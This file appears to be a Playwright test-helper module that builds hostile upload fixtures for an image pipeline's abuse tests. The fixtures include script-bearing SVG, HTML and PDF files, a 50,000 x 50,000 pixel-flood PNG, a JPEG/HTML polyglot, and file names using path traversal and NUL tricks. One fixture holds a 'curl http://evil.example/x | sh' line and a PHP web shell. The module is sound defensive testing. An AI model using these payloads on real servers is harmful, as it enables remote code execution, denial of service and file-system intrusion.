import crypto from "node:crypto";
import fs from "node:fs";
import http from "node:http";
import path from "node:path";
import zlib from "node:zlib";
import type { APIRequestContext } from "@playwright/test";
import sharp from "sharp";

/**
 * Hostile (and a few honest) files for the upload-abuse specs, a raw multipart encoder (so
 * file names can carry `../`, NUL or right-to-left marks exactly as an attacker would send
 * them, and a form can have 10,000 parts) and a raw HTTP client for bodies Playwright cannot
 * send (chunked, 50 MB, with the connection cut after the answer).
 */

export interface HostileFile {
  /** What the test calls it. */
  label: string;
  /** The file name sent in the multipart header (may be hostile itself). */
  filename: string;
  contentType: string;
  data: Buffer;
}

const MB = 1024 * 1024;

/** A noisy RGB image (noise makes a JPEG's entropy-coded data large and non-trivial). */
async function noise(width: number, height: number) {
  const pixels = crypto.randomBytes(width * height * 3);
  return sharp(pixels, { raw: { width, height, channels: 3 } });
}

export async function jpeg(width = 320, height = 240): Promise<Buffer> {
  return (await noise(width, height)).jpeg({ quality: 80 }).toBuffer();
}

export async function png(width = 200, height = 150): Promise<Buffer> {
  return (await noise(width, height)).png().toBuffer();
}

export async function webp(width = 200, height = 150): Promise<Buffer> {
  return (await noise(width, height)).webp({ quality: 80 }).toBuffer();
}

export async function gif(width = 120, height = 90): Promise<Buffer> {
  return (await noise(width, height)).gif().toBuffer();
}

/** The GPS position written into the test photo: the shop must never keep it. */
export const GPS = { latitude: "22/1 16/1 3042/100", longitude: "114/1 10/1 1234/100" };
export const EXIF_ARTIST = "EXIF-ARTIST-MUST-BE-STRIPPED";

/** A JPEG from a phone: camera EXIF with an artist and a GPS position (IFD3 is the GPS IFD). */
export async function jpegWithGps(): Promise<Buffer> {
  return (await noise(300, 200))
    .withExif({
      IFD0: { Artist: EXIF_ARTIST, Make: "PhoneMaker", Model: "Phone 9" },
      IFD3: { GPSLatitudeRef: "N", GPSLatitude: GPS.latitude, GPSLongitudeRef: "E", GPSLongitude: GPS.longitude },
    })
    .jpeg({ quality: 80 })
    .toBuffer();
}

/** True when raw EXIF (as sharp's `metadata().exif` gives it) has a GPS IFD pointer (tag 0x8825) in IFD0. */
export function exifHasGps(exif: Buffer | undefined): boolean {
  if (!exif) return false;
  const start = exif.indexOf("Exif\0\0", 0, "latin1");
  const tiff = start >= 0 ? start + 6 : 0;
  const little = exif.toString("latin1", tiff, tiff + 2) === "II";
  const u16 = (at: number) => (little ? exif.readUInt16LE(at) : exif.readUInt16BE(at));
  const u32 = (at: number) => (little ? exif.readUInt32LE(at) : exif.readUInt32BE(at));
  const ifd0 = tiff + u32(tiff + 4);
  const entries = u16(ifd0);
  for (let i = 0; i < entries; i++) if (u16(ifd0 + 2 + i * 12) === 0x8825) return true;
  return false;
}

/** JPEG segments: APPn/COM markers carry at most 65,533 bytes of payload each. */
function jpegSegment(marker: number, payload: Buffer): Buffer {
  const header = Buffer.alloc(4);
  header[0] = 0xff;
  header[1] = marker;
  header.writeUInt16BE(payload.length + 2, 2);
  return Buffer.concat([header, payload]);
}

/**
 * A real, small JPEG grown to exactly `size` bytes with APP15 segments of filler right after
 * SOI: a valid image the decoder reads in a blink, but `size` bytes on the wire.
 */
export async function paddedJpeg(size: number, image?: Buffer): Promise<Buffer> {
  const base = image ?? (await jpeg(160, 120));
  const parts: Buffer[] = [base.subarray(0, 2)];
  let total = base.length;
  while (size - total > 4) {
    const payload = Math.min(65_533, size - total - 4);
    parts.push(jpegSegment(0xef, Buffer.alloc(payload, 0x41)));
    total += payload + 4;
  }
  parts.push(base.subarray(2));
  const out = Buffer.concat(parts);
  // Any remainder (< 5 bytes) goes after EOI, where decoders ignore it.
  return out.length < size ? Buffer.concat([out, Buffer.alloc(size - out.length, 0)]) : out;
}

function pngChunk(type: string, data: Buffer): Buffer {
  const length = Buffer.alloc(4);
  length.writeUInt32BE(data.length);
  const body = Buffer.concat([Buffer.from(type, "latin1"), data]);
  const crc = Buffer.alloc(4);
  crc.writeUInt32BE(zlib.crc32(body));
  return Buffer.concat([length, body, crc]);
}

/**
 * A decompression bomb: a few hundred bytes of valid PNG whose header declares
 * `width` x `height` pixels (50,000 x 50,000 = 2.5 gigapixels, 7.5 GB of RGB once decoded).
 */
export function pixelFloodPng(width = 50_000, height = 50_000): Buffer {
  const ihdr = Buffer.alloc(13);
  ihdr.writeUInt32BE(width, 0);
  ihdr.writeUInt32BE(height, 4);
  ihdr[8] = 8; // bit depth
  ihdr[9] = 2; // RGB
  // Rows of zeros compress to almost nothing: the first few rows only.
  const idat = zlib.deflateSync(Buffer.alloc((width * 3 + 1) * 4));
  return Buffer.concat([
    Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]),
    pngChunk("IHDR", ihdr),
    pngChunk("IDAT", idat),
    pngChunk("IEND", Buffer.alloc(0)),
  ]);
}

export const POLYGLOT_MARKER = "<script>alert('polyglot')</script>";

/**
 * A JPEG that is also an HTML page: the markup sits in a comment segment (so the JPEG stays
 * valid) and again after the end-of-image marker, where a sniffing browser would find it.
 */
export async function jpegHtmlPolyglot(): Promise<Buffer> {
  const base = await jpeg(160, 120);
  const html = Buffer.from(`<html><body>${POLYGLOT_MARKER}</body></html>`);
  return Buffer.concat([base.subarray(0, 2), jpegSegment(0xfe, html), base.subarray(2), html]);
}

/** Every file the image pipeline must refuse, whatever the upload. */
export async function refusedFiles(options: { maxBytes: number; gifAccepted?: boolean }): Promise<HostileFile[]> {
  const full = await jpeg(640, 480);
  const files: HostileFile[] = [
    {
      label: "SVG with a script",
      filename: "logo.svg",
      contentType: "image/svg+xml",
      data: Buffer.from(
        '<svg xmlns="http://www.w3.org/2000/svg" width="10" height="10" onload="alert(1)"><script>alert(1)</script><rect width="10" height="10"/></svg>',
      ),
    },
    {
      label: "SVG named .jpg",
      filename: "logo.jpg",
      contentType: "image/jpeg",
      data: Buffer.from('<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>'),
    },
    {
      label: "HTML page",
      filename: "page.html",
      contentType: "text/html",
      data: Buffer.from("<!doctype html><html><body><script>alert(1)</script></body></html>"),
    },
    {
      label: "PDF",
      filename: "receipt.pdf",
      contentType: "application/pdf",
      data: Buffer.from(
        "%PDF-1.4\n1 0 obj<</Type/Catalog/Pages 2 0 R/OpenAction<</S/JavaScript/JS(app.alert(1))>>>>endobj\n%%EOF\n",
      ),
    },
    {
      label: "shell script renamed .jpg",
      filename: "photo.jpg",
      contentType: "image/jpeg",
      data: Buffer.from("#!/bin/sh\ncurl http://evil.example/x | sh\n<?php system($_GET['c']); ?>\n"),
    },
    { label: "zero-byte file", filename: "empty.jpg", contentType: "image/jpeg", data: Buffer.alloc(0) },
    {
      label: "truncated JPEG",
      filename: "cut.jpg",
      contentType: "image/jpeg",
      data: full.subarray(0, Math.floor(full.length * 0.6)),
    },
    {
      label: "JPEG magic then garbage",
      filename: "fake.jpg",
      contentType: "image/jpeg",
      data: Buffer.concat([Buffer.from([0xff, 0xd8, 0xff, 0xe0]), crypto.randomBytes(4096)]),
    },
    {
      label: "pixel flood PNG (50,000 x 50,000)",
      filename: "flood.png",
      contentType: "image/png",
      data: pixelFloodPng(),
    },
    {
      label: "file one byte over the limit",
      filename: "big.jpg",
      contentType: "image/jpeg",
      data: await paddedJpeg(options.maxBytes + 1),
    },
  ];
  if (!options.gifAccepted) {
    files.push({ label: "GIF", filename: "anim.gif", contentType: "image/gif", data: await gif() });
  }
  return files;
}

/** Real images, some with hostile names or a lying Content-Type: all must be accepted and re-encoded. */
export async function acceptedFiles(options: { gifAccepted?: boolean } = {}): Promise<HostileFile[]> {
  const files: HostileFile[] = [
    { label: "JPEG with GPS EXIF", filename: "IMG_0001.jpg", contentType: "image/jpeg", data: await jpegWithGps() },
    { label: "PNG sent as image/jpeg", filename: "shot.jpg", contentType: "image/jpeg", data: await png() },
    { label: "WebP", filename: "pic.webp", contentType: "image/webp", data: await webp() },
    { label: "JPEG/HTML polyglot", filename: "poly.html", contentType: "text/html", data: await jpegHtmlPolyglot() },
    {
      label: "file name with ../",
      filename: "../../../../tmp/owned.jpg",
      contentType: "image/jpeg",
      data: await jpeg(100, 80),
    },
    {
      label: "file name with NUL",
      filename: "evil.php\0.jpg",
      contentType: "image/jpeg",
      data: await jpeg(100, 80),
    },
    {
      label: "file name with a right-to-left override",
      filename: "receipt\u202Egpj.exe",
      contentType: "image/jpeg",
      data: await jpeg(100, 80),
    },
  ];
  if (options.gifAccepted) {
    files.push({ label: "GIF", filename: "anim.gif", contentType: "image/gif", data: await gif() });
  }
  return files;
}

/* ------------------------------------------------------------------------------------------
 * Multipart bodies, byte for byte.
 * ------------------------------------------------------------------------------------------ */

export type Part = { name: string; value: string } | { name: string; file: HostileFile };

/** A multipart/form-data body; the file name goes in raw (UTF-8), quotes escaped as browsers do. */
export function multipart(parts: Part[]): { body: Buffer; contentType: string } {
  const boundary = `----shopRel${crypto.randomBytes(12).toString("hex")}`;
  const chunks: Buffer[] = [];
  for (const part of parts) {
    const name = part.name.replace(/"/g, "%22");
    if ("file" in part) {
      const filename = part.file.filename.replace(/"/g, "%22").replace(/\r/g, "%0D").replace(/\n/g, "%0A");
      chunks.push(
        Buffer.from(
          `--${boundary}\r\nContent-Disposition: form-data; name="${name}"; filename="${filename}"\r\nContent-Type: ${part.file.contentType}\r\n\r\n`,
        ),
        part.file.data,
        Buffer.from("\r\n"),
      );
    } else {
      chunks.push(
        Buffer.from(`--${boundary}\r\nContent-Disposition: form-data; name="${name}"\r\n\r\n${part.value}\r\n`),
      );
    }
  }
  chunks.push(Buffer.from(`--${boundary}--\r\n`));
  return { body: Buffer.concat(chunks), contentType: `multipart/form-data; boundary=${boundary}` };
}

/** Posts a multipart body built by `multipart` through a Playwright request context (its cookies). */
export async function postMultipart(request: APIRequestContext, url: string, parts: Part[]) {
  const { body, contentType } = multipart(parts);
  const response = await request.post(url, { data: body, headers: { "Content-Type": contentType }, maxRedirects: 0 });
  return { status: response.status(), text: await response.text(), headers: response.headers() };
}

/* ------------------------------------------------------------------------------------------
 * A raw HTTP client for giant bodies.
 * ------------------------------------------------------------------------------------------ */

export interface RawAnswer {
  /** null when the server cut the connection without any answer. */
  status: number | null;
  text: string;
  /** Bytes of the body that were written before the answer came (or the socket closed). */
  written: number;
}

/** The Cookie header a Playwright request context would send to `baseURL`. */
export async function cookieHeader(request: APIRequestContext): Promise<string> {
  const { cookies } = await request.storageState();
  return cookies.map((cookie) => `${cookie.name}=${cookie.value}`).join("; ");
}

/**
 * POSTs `body` (or `total` bytes of `fill`) to `url` (with Content-Length, or chunked), stopping
 * as soon as the server answers: a server that refuses early must not have to swallow all of it.
 */
export function rawPost(
  url: string,
  options: { contentType: string; total?: number; body?: Buffer; chunked?: boolean; cookie?: string; fill?: number },
): Promise<RawAnswer> {
  return new Promise((resolve, reject) => {
    const target = new URL(url);
    const headers: Record<string, string> = { "Content-Type": options.contentType };
    if (options.cookie) headers.Cookie = options.cookie;
    const total = options.body?.length ?? options.total ?? 0;
    if (!options.chunked) headers["Content-Length"] = String(total);
    const filler = Buffer.alloc(64 * 1024, options.fill ?? 0x61);
    const slice = (from: number, size: number) =>
      options.body
        ? options.body.subarray(from, from + size)
        : size === filler.length
          ? filler
          : filler.subarray(0, size);
    let written = 0;
    let answered = false;
    let settled = false;
    const finish = (answer: RawAnswer) => {
      if (settled) return;
      settled = true;
      resolve(answer);
    };
    const req = http.request(
      { host: target.hostname, port: target.port, path: `${target.pathname}${target.search}`, method: "POST", headers },
      (res) => {
        answered = true;
        let text = "";
        res.setEncoding("utf8");
        res.on("data", (part: string) => {
          if (text.length < 2_000_000) text += part;
        });
        res.on("end", () => {
          finish({ status: res.statusCode ?? null, text, written });
          req.destroy();
        });
        res.on("error", () => finish({ status: res.statusCode ?? null, text, written }));
      },
    );
    req.on("error", (error) => {
      // A reset after the whole body went out, without an answer, is the server's fault.
      if (!answered) finish({ status: null, text: String(error), written });
    });
    req.setTimeout(60_000, () => {
      req.destroy();
      reject(new Error(`no answer from ${url} within 60 s`));
    });
    const pump = () => {
      while (!answered && written < total) {
        const size = Math.min(filler.length, total - written);
        const part = slice(written, size);
        written += size;
        if (!req.write(part)) {
          req.once("drain", pump);
          return;
        }
      }
      if (!answered) req.end();
    };
    pump();
  });
}

/* ------------------------------------------------------------------------------------------
 * The storage folder.
 * ------------------------------------------------------------------------------------------ */

/** Every file under `dir`, as paths relative to it (sorted). */
export function listFiles(dir: string): string[] {
  if (!fs.existsSync(dir)) return [];
  const out: string[] = [];
  const walk = (folder: string) => {
    for (const entry of fs.readdirSync(folder, { withFileTypes: true })) {
      const full = path.join(folder, entry.name);
      if (entry.isDirectory()) walk(full);
      else out.push(path.relative(dir, full));
    }
  };
  walk(dir);
  return out.sort();
}

/** The server process's resident set size in bytes, from /proc/<pid>/status. */
export function residentBytes(pid: number): number {
  const status = fs.readFileSync(`/proc/${pid}/status`, "utf8");
  const kb = /^VmRSS:\s+(\d+)\s+kB/m.exec(status)?.[1];
  if (!kb) throw new Error(`no VmRSS for ${pid}`);
  return Number(kb) * 1024;
}

export { MB };
